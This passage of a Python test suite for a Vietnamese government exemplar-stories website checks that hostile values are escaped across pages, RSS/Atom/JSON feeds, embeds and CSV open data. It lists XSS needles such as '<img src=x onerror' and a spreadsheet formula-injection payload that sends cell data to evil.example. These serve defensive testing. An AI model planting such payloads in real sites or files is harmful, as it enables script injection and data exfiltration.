            assert element.tag not in ("svg", "textarea") or not any(m in (element.text or "") for m in ("xss-caption",)), where
        raw = page.read_text(encoding="utf-8")
        for needle in ("<script>alert(", "<img src=x onerror", "<svg onload", "<b onmouseover"):
            assert needle not in raw, f"{where}: raw {needle!r}"


def _texts(doc: lxml.html.HtmlElement, xpath: str) -> list[str]:
    return [" ".join(e.text_content().split()) if not isinstance(e, str) else " ".join(e.split()) for e in doc.xpath(xpath)]


def _squash(text: str) -> str:
    return " ".join(text.split())


def test_story_page_shows_the_values_as_text_not_double_escaped(hostile) -> None:
    _, site = hostile
    doc = _html(site, "guong-dien-hinh/tieu-de-doc-hai")
    assert _texts(doc, "//h1") == [_squash(SHOWN_TITLE)]
    assert _squash(SHOWN_TITLE) in _texts(doc, "//title")[0]
    assert _squash(SHOWN_SUMMARY) in _texts(doc, '//*[contains(@class, "gs-lede")]')
    assert any(_squash(SHOWN_SUBJECT) in t for t in _texts(doc, '//*[contains(@class, "gs-facts")]//dd'))
    assert doc.xpath('//meta[@property="og:title"]/@content') == [SHOWN_TITLE]
    assert doc.xpath('//meta[@property="og:description"]/@content') == [SHOWN_SUMMARY]
    assert doc.xpath('//meta[@name="description"]/@content') == [SHOWN_SUMMARY]
    cover_alts = [a for a in doc.xpath("//img/@alt") if "vườn keo" in a]
    assert cover_alts and set(cover_alts) == {HOSTILE_CAPTION}
    assert any(_squash(HOSTILE_CAPTION) in t for t in _texts(doc, "//figcaption"))
    page = (site / "guong-dien-hinh/tieu-de-doc-hai/index.html").read_text(encoding="utf-8")
    assert "&amp;lt;" not in page.split("gs-embed-box")[0], "double-escaped text before the embed box"
    assert "Gương sáng Quảng Ngãi" not in _texts(doc, "//h1")[0], "{{ }} in a title was rendered by Jinja"
    assert "49" not in _texts(doc, '//*[contains(@class, "gs-facts")]//dd')[0]


def test_listing_cards_and_home_show_the_values_as_text(hostile) -> None:
    _, site = hostile
    for url in ("", "phong-trao/nong-thon-moi", "dia-ban/binh-son", "nam/2023", "don-vi/ubnd-binh-son", "linh-vuc/nong-nghiep-nong-thon"):
        doc = _html(site, url)
        titles = _texts(doc, '//*[contains(@class, "gs-card__title")]')
        assert _squash(SHOWN_TITLE) in titles, f"{url or 'home'}: {titles}"
        assert _squash(SHOWN_SUBJECT) in _texts(doc, '//*[contains(@class, "gs-card__subject")]'), url
        assert _squash(SHOWN_SUMMARY) in _texts(doc, '//*[contains(@class, "gs-card__summary")]'), url


def test_consultation_page_escapes_the_nominee(hostile) -> None:
    _, site = hostile
    doc = _html(site, "lay-y-kien")
    assert any(_squash(curly_quotes(NOMINEE_TITLE)) in t for t in _texts(doc, "//main//a | //main//h2 | //main//h3")), "nominee title missing"
    assert not [s for s in doc.xpath("//script") if "xss-nominee" in (s.text or "")]


def test_feeds_parse_and_carry_the_values_as_text(hostile) -> None:
    _, site = hostile
    feeds = sorted(site.rglob("rss.xml")) + sorted(site.rglob("atom.xml"))
    assert len(feeds) >= 4
    atom = "{http://www.w3.org/2005/Atom}"
    for feed in feeds:
        tree = ET.parse(feed)  # well-formed XML or this raises
        where = feed.relative_to(site).as_posix()
        if feed.name == "rss.xml":
            items = {i.findtext("title"): i for i in tree.getroot().iter("item")}
            if SHOWN_TITLE in items:
                description = items[SHOWN_TITLE].findtext("description")
                # <description> is HTML to RSS readers: the summary arrives as escaped text, never as markup.
                assert html.unescape(description) == SHOWN_SUMMARY and "<" not in description, where
        else:
            entries = {e.findtext(f"{atom}title"): e for e in tree.getroot().iter(f"{atom}entry")}
            if SHOWN_TITLE in entries:
                summary = entries[SHOWN_TITLE].find(f"{atom}summary")
                assert summary.text == SHOWN_SUMMARY and summary.get("type", "text") == "text", where
    assert SHOWN_TITLE in {i.findtext("title") for i in ET.parse(site / "rss.xml").getroot().iter("item")}


def test_rss_descriptions_are_not_live_html_for_feed_readers(hostile) -> None:
    """RSS <description> is HTML to feed readers: a summary's `<img onerror>` must arrive as text."""
    _, site = hostile
    for item in ET.parse(site / "rss.xml").getroot().iter("item"):
        description = item.findtext("description") or ""
        fragment = lxml.html.fragment_fromstring(description, create_parent="div")
        elements = [e.tag for e in fragment.iter() if e is not fragment]
        assert elements == [], f"{item.findtext('title')!r}: a feed reader renders {elements} from {description!r}"


def test_json_feed_and_open_data_round_trip_the_exact_values(hostile) -> None:
    _, site = hostile
    feed = json.loads((site / "feed.json").read_text(encoding="utf-8"))
    [item] = [i for i in feed["items"] if i["title"] == SHOWN_TITLE]
    assert item["summary"] == SHOWN_SUMMARY
    assert "content_html" not in item or "xss-summary" not in item["content_html"] or "<img" not in item["content_html"]
    records = json.loads((site / "du-lieu/exemplars.json").read_text(encoding="utf-8"))["exemplars"]
    [record] = [r for r in records if r["slug"] == "tieu-de-doc-hai"]
    assert (record["title"], record["subject"], record["summary"]) == (SHOWN_TITLE, SHOWN_SUBJECT, SHOWN_SUMMARY)
    rows = list(csv.DictReader(io.StringIO((site / "du-lieu/exemplars.csv").read_text(encoding="utf-8-sig"))))
    [row] = [r for r in rows if r["slug"] == "tieu-de-doc-hai"]
    assert (row["title"], row["subject"], row["summary"]) == (SHOWN_TITLE, SHOWN_SUBJECT, SHOWN_SUMMARY)


def test_open_data_csv_cannot_run_formulas_in_a_spreadsheet(tmp_path: Path) -> None:
    """The CSV is made for Excel (BOM): a value starting with = + - @ must not become a formula."""
    project = make_project(tmp_path / "site", _yml(site_url="https://guongsang.example.gov.vn/"))
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Xem chi tiết")'
    project.add_story("2023/cong-thuc.md", valid_story(body="Nội dung.\n", summary=formula, slug="cong-thuc"))
    site = tmp_path / "out"
    run = mkdocs_build(project.root, site)
    assert run.returncode == 0, run.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO((site / "du-lieu/exemplars.csv").read_text(encoding="utf-8-sig"))))
    [row] = rows
    assert not row["summary"].startswith(("=", "+", "-", "@")), f"Excel runs {row['summary']!r}"


def test_embed_card_widget_and_oembed_escape_the_values(hostile) -> None:
    _, site = hostile
    card = _html(site, "nhung/tieu-de-doc-hai")
    assert any(_squash(SHOWN_TITLE) in t for t in _texts(card, "//a | //h1 | //h2 | //h3"))
    assert _squash(SHOWN_TITLE) in _texts(card, "//title")[0]
    assert not [s for s in card.xpath("//script") if any(m in (s.text or "") for m in MARKERS)]
    widget = _html(site, "nhung/phong-trao/nong-thon-moi")
    assert any(_squash(SHOWN_TITLE) in t for t in _texts(widget, "//a"))
    oembed = json.loads((site / "nhung/tieu-de-doc-hai/oembed.json").read_text(encoding="utf-8"))
    assert oembed["title"] == SHOWN_TITLE
    snippet = lxml.html.fragment_fromstring(oembed["html"], create_parent="div")
    [frame] = snippet.xpath("//iframe")
    assert frame.get("title") == SHOWN_TITLE
    scripts = snippet.xpath("//script")
    assert all(s.get("src", "").endswith("/nhung/nhung.js") and not (s.text or "").strip() for s in scripts)


def test_share_card_tags_on_the_embed_page_and_story_are_attributes_only(hostile) -> None:
    _, site = hostile
    for url in ("guong-dien-hinh/tieu-de-doc-hai", "nhung/tieu-de-doc-hai"):
        doc = _html(site, url)
        for meta in doc.xpath("//meta[@property or @name]"):
            content = meta.get("content") or ""
            if "xss-title" in content:
                assert content.startswith("Ông <script>") and content.endswith("{% raw %}"), (url, content)
        assert not doc.xpath("//head/script[not(@type='application/ld+json')][contains(text(), 'xss')]")
    # The story's structured data carries the exact title, as data.
    doc = _html(site, "guong-dien-hinh/tieu-de-doc-hai")
    data = [json.loads(s.text) for s in doc.xpath("//script[@type='application/ld+json']")]
    assert [d["headline"] for d in data if d["@type"] == "NewsArticle"] == [SHOWN_TITLE]


def test_no_data_or_text_file_breaks_its_format(hostile) -> None:
    _, site = hostile
    for path in _site_files(site):
        text = path.read_text(encoding="utf-8")
        if path.suffix == ".json":
            json.loads(text)
        elif path.suffix == ".xml":
            ET.fromstring(text.encode("utf-8"))


# -- Word and PDF artefacts ------------------------------------------------------------------------------


def _has_invisible(text: str) -> list[str]:
    text = text.removeprefix("\ufeff")  # the CSV's BOM is on purpose (Excel)
    return sorted({f"U+{ord(c):04X}" for c in text if c in INVISIBLE})


def test_artefacts_are_cleaned_in_the_story_page(hostile) -> None:
    _, site = hostile
    doc = _html(site, "guong-dien-hinh/dan-tu-word")
    [h1] = _texts(doc, "//h1")
    assert h1 == WORD_TITLE_CLEAN
    assert _texts(doc, '//*[contains(@class, "gs-lede")]') == [WORD_SUMMARY_CLEAN]
    raw = (site / "guong-dien-hinh/dan-tu-word/index.html").read_text(encoding="utf-8")
    assert _has_invisible(raw) == []
    assert unicodedata.is_normalized("NFC", raw)
    assert "“người giữ lửa”" in raw  # smart quotes kept
    body = _story_body(site, "dan-tu-word").text_content()
    for word in WORD_BODY_WORDS:
        assert word in body, word
    assert "\u00a0" not in body, "no-break spaces from Word left in the story body"


def test_artefacts_are_cleaned_in_cards_feeds_and_data(hostile) -> None:
    _, site = hostile
    files = [p for p in _site_files(site)]
    dirty = {p.relative_to(site).as_posix(): _has_invisible(p.read_text(encoding="utf-8")) for p in files}
    assert {k: v for k, v in dirty.items() if v} == {}
    not_nfc = [p.relative_to(site).as_posix() for p in files if not unicodedata.is_normalized("NFC", p.read_text(encoding="utf-8"))]
    assert not_nfc == []
    records = json.loads((site / "du-lieu/exemplars.json").read_text(encoding="utf-8"))["exemplars"]
    [record] = [r for r in records if r["slug"] == "dan-tu-word"]
    assert (record["title"], record["summary"], record["subject"], record["district"]) == (
        WORD_TITLE_CLEAN, WORD_SUMMARY_CLEAN, "Chị Lê Thị Thủy", "tu-nghia",
    )  # fmt: skip
    assert WORD_TITLE_CLEAN in {i.findtext("title") for i in ET.parse(site / "rss.xml").getroot().iter("item")}
    assert WORD_TITLE_CLEAN in _texts(_html(site, "dia-ban/tu-nghia"), '//*[contains(@class, "gs-card__title")]')
